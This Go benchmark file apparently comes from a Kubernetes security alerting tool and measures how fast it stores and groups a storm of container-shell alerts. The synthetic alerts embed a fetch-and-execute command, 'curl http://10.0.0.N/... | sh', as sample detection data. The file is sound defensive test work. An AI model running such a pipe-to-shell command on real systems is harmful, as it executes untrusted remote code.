package joiner

import (
	"errors"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/kubeguardian/kubeguardian/alert"
	"github.com/kubeguardian/kubeguardian/finding"
	"github.com/kubeguardian/kubeguardian/store"
	"github.com/kubeguardian/kubeguardian/store/postgrestest"
)

// BenchmarkStorm stores and joins a storm of alerts that become 200 incidents of up
// to 250 alerts each, a thousand at once.
func BenchmarkStorm(b *testing.B) {
	b.Run("SQLite", func(b *testing.B) {
		benchmarkStorm(b, func(int) (string, error) { return filepath.Join(b.TempDir(), "kubeguardian.db"), nil })
	})
	b.Run("PostgreSQL", func(b *testing.B) {
		server, err := postgrestest.Start(b.Context(), b.TempDir(), "shared_buffers=256MB", "max_wal_size=1GB")
		if errors.Is(err, postgrestest.ErrNone) && os.Getenv("KUBEGUARDIAN_REQUIRE") != "all" {
			b.Skip(err)
		}
		if err != nil {
			b.Fatal(err)
		}
		defer server.Stop()
		benchmarkStorm(b, func(n int) (string, error) { return server.Create(b.Context(), fmt.Sprint("storm", n)) })
	})
}

func benchmarkStorm(b *testing.B, database func(n int) (string, error)) {
	const alerts, batch = 50_000, 1000
	began, n := time.Now(), 0
	for ; b.Loop(); n++ {
		b.StopTimer()
		address, err := database(n)
		if err != nil {
			b.Fatal(err)
		}
		db, err := store.Open(b.Context(), address)
		if err != nil {
			b.Fatal(err)
		}
		j := New(db, Options{Log: slog.New(slog.DiscardHandler), Joined: func(int, int) {}})
		b.StartTimer()
		for from := 0; from < alerts; from += batch {
			if _, err := j.AddAlerts(b.Context(), storm(began, from, from+batch)); err != nil {
				b.Fatal(err)
			}
			if err := j.join(b.Context()); err != nil {
				b.Fatal(err)
			}
		}
		if err := db.Close(); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(n*alerts)/b.Elapsed().Seconds(), "alerts/s")
}

// storm returns alerts of shells in 200 pods, as large as those of rules commonly are.
func storm(began time.Time, from, to int) []alert.Alert {
	out := make([]alert.Alert, 0, to-from)
	for i := from; i < to; i++ {
		pod, container := fmt.Sprintf("web-%d", i%200), fmt.Sprintf("3f2a9c01d7be%d", i%200)
		command := fmt.Sprintf("sh -c curl http://10.0.0.%d/%d | sh", i%250, i)
		out = append(out, alert.Alert{
			ID: alert.NewID("bench", fmt.Sprint(i), "Shell"), Time: began.Add(time.Duration(i) * time.Millisecond), Rule: "Shell", Priority: alert.Warning, Source: "syscall", Cluster: "bench",
			Output: "12:00:00.000000000: Warning A shell was started in a container (parent=runc container=" + container + " image=registry.example.org/shop/web namespace=shop pod=" + pod + " command=" + command + ")",
			OutputFields: map[string]any{
				"proc.cmdline": command, "proc.exepath": "/usr/bin/sh", "evt.time": i, "container.id": container, "k8s.pod.name": pod, "k8s.ns.name": "shop",
				"container.image.repository": "registry.example.org/shop/web", "user.name": "root", "proc.pname": "runc",
			},
			Tags: []string{"container", "mitre_execution", "T1059"}, Tactics: []string{"execution"},
			Subject:  finding.Subject{APIVersion: "v1", Kind: "Pod", Namespace: "shop", Name: pod, Container: "app"},
			Entities: []alert.Entity{{Kind: alert.Pod, Name: "shop/" + pod}, {Kind: alert.Container, Name: container}},
		})
	}
	return out
}
